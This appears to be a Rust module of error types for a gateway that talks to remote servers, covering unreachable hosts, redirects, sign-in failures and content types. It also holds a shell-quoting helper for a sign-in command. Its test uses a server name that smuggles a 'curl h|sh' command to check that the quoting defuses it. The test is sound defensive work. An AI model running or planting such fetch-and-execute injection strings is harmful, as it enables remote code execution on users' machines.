//! What can go wrong between the gateway and a remote server, in words that name hosts only: an address, a header or a
//! body may hold a secret.

use std::error::Error;

use reqwest::{StatusCode, Url};

use crate::http::{host_of, root_cause};

/// Media types that web servers answer with.
const MEDIA_TYPES: &[&str] = &[
    "application/json",
    "application/octet-stream",
    "application/xml",
    "text/event-stream",
    "text/html",
    "text/plain",
    "text/xml",
];

/// What a status means to whoever has to mend it.
fn advice(status: StatusCode) -> &'static str {
    match status {
        StatusCode::FORBIDDEN => {
            ": it knows you and does not let you in; ask its operator, or correct the token of its entry"
        }
        StatusCode::TOO_MANY_REQUESTS => ": it has had enough requests for now; try again later",
        status if status.is_server_error() => ": that is a fault at its end; try again later",
        status if status.is_client_error() => "; the `url` and the `headers` of its entry may be wrong",
        _ => "",
    }
}

/// The command that signs in to a server, as a shell reads it: the name of a server is any text.
fn to_sign_in(server: &str) -> String {
    let name = shlex::try_quote(server).unwrap_or_default();
    let options_end = if server.starts_with('-') { "-- " } else { "" };
    format!("{} auth {options_end}{name}", env!("CARGO_PKG_NAME"))
}

/// Why a message did not get to a server, or its answer not back.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub(super) enum Failure {
    /// No connection to `host` came about.
    #[error("{host} can't be reached: {cause}")]
    Unreachable { host: String, cause: String },
    /// The connection broke.
    #[error(
        "the connection to {host} broke before its answer came ({cause}); whether it did what was asked is not known"
    )]
    Broken { host: String, cause: String },
    /// The answer took too long.
    #[error("{host} did not answer within {seconds} s")]
    TimedOut { host: String, seconds: u64 },
    /// The answer sends the message elsewhere.
    #[error(
        "it redirects to {to}, where neither this message nor its headers are sent; if the server has moved, change the `url` of its entry"
    )]
    Redirected { to: String },
    /// The answer sends the message on as another kind of request.
    #[error(
        "it redirects to {to} with HTTP {status}, which makes a GET of a POST; a server that has moved redirects with 307 or 308: change the `url` of its entry"
    )]
    MethodLost { to: String, status: u16 },
    /// The answer sends the message around in circles.
    #[error("it redirects too often")]
    RedirectedTooOften,
    /// Nobody has signed in, or not for long enough.
    #[error("it wants you to sign in: run `{}`", to_sign_in(.server))]
    SignIn { server: String },
    /// What was granted can't be renewed any more.
    #[error("the sign-in has run out or was taken back: run `{}` once more", to_sign_in(.server))]
    RunOut { server: String },
    /// The token is good, but not for this server.
    #[error(
        "it does not take the token of the sign-in: run `{}` once more; if that does not help, its operator has to say why, since the token may \
         be meant for another server", to_sign_in(.server)
    )]
    NotTaken { server: String },
    /// The `Authorization` header of the entry is not accepted.
    #[error(
        "it does not accept the `Authorization` header, or the user in the `url`, of its entry (HTTP 401): correct that"
    )]
    BadHeader,
    /// The token is good for less.
    #[error("it wants a sign-in that reaches further: run `{}`, which shows what it wants", to_sign_in(.server))]
    MoreScope { server: String },
    /// The server does not know the session any more.
    #[error("its session has expired")]
    Expired,
    /// Any other status that is no success.
    #[error("it answered HTTP {status}{advice}", status = .0, advice = advice(*.0))]
    Status(StatusCode),
    /// The handshake went where there is no Streamable HTTP.
    #[error("it answered HTTP {0}; if it speaks the transport of 2024-11-05, write `\"type\": \"sse\"` into its entry")]
    NoSuchTransport(StatusCode),
    /// A success that carries nothing to read.
    #[error("it answered with {0}, which is neither JSON nor an event stream")]
    ContentType(&'static str),
    /// A success without an answer in it.
    #[error("it ended its answer without a message that answers")]
    NoAnswer,
    /// The answer is over the limit.
    #[error("its answer of {length} bytes or more is over the limit of {limit} bytes for a message")]
    TooLong { length: usize, limit: usize },
    /// The store of tokens can't be used.
    #[error("its tokens can't be used: {0}")]
    Tokens(String),
}

impl Failure {
    /// A success of this media type, which is named if everybody knows it: another may say anything.
    pub(super) fn of_type(media_type: &str) -> Self {
        let known = MEDIA_TYPES.iter().find(|known| known.eq_ignore_ascii_case(media_type));
        Self::ContentType(known.copied().unwrap_or("another media type"))
    }

    /// What sending a request to `url` gave.
    pub(super) fn of_sending(url: &Url, error: &reqwest::Error) -> Self {
        let (host, cause) = (host_of(url), root_cause(error));
        if error.is_connect() || error.is_builder() {
            return Self::Unreachable { host, cause };
        }
        Self::Broken { host, cause }
    }

    /// What reading the answer of `url` gave.
    pub(super) fn of_reading(url: &Url, error: &(dyn Error + 'static)) -> Self {
        Self::Broken {
            host: host_of(url),
            cause: root_cause(error),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_is_one_word_of_the_command() {
        for (server, words) in [
            ("it", vec!["it"]),
            ("a b", vec!["a b"]),
            ("--sign-out", vec!["--", "--sign-out"]),
            ("x`; curl h|sh #'", vec!["x`; curl h|sh #'"]),
        ] {
            let command = shlex::split(&to_sign_in(server)).expect("a command");
            assert_eq!(command[2..], words);
        }
    }
}
